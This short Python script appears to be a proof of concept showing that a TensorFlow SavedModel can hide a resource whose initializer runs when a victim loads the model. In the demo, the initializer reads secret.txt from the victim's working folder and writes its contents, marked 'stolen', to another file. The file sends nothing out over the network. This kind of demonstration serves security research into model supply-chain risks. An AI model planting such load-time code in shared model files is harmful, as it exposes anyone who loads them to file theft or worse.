import tensorflow as tf


class Table(tf.saved_model.experimental.TrackableResource):
    """A resource, like a lookup table. The loader re-creates it, then calls _initialize()."""

    def _create_resource(self):
        return tf.raw_ops.HashTableV2(key_dtype=tf.string, value_dtype=tf.int64)

    def _initialize(self):  # meant to fill the table; this one reads and writes files
        secret = tf.io.read_file("secret.txt")  # relative paths: the victim's working folder
        tf.io.write_file("pwned_on_load.txt", tf.strings.join(["stolen: ", secret]))


model = tf.Module()
model.table = Table()
with open("secret.txt", "w") as f:  # the attacker's own machine runs _initialize() while saving
    f.write("the attacker's own file\n")
tf.saved_model.save(model, "resource_model")
print("saved resource_model/")
